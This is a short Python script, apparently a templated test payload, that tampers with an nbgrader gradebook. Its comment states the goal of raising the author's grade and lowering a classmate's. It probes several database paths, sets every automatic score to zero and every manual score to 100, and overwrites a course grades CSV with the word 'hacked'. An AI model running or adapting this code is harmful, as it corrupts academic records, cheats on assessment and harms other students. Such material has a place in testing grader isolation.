# Raise my grade, lower a classmate's: write the gradebook directly (works against plain nbgrader).
import sqlite3, os
for path in ["@GRADEBOOK@", "../../../gradebook.db", "../../gradebook.db", "/tmp/gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0")
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        print("wrote", path)
    except Exception as exc:
        print("no", path, exc)
try:
    with open("@COURSE@/grades.csv", "w") as fh:
        fh.write("hacked")
except Exception as exc:
    print("no csv", exc)
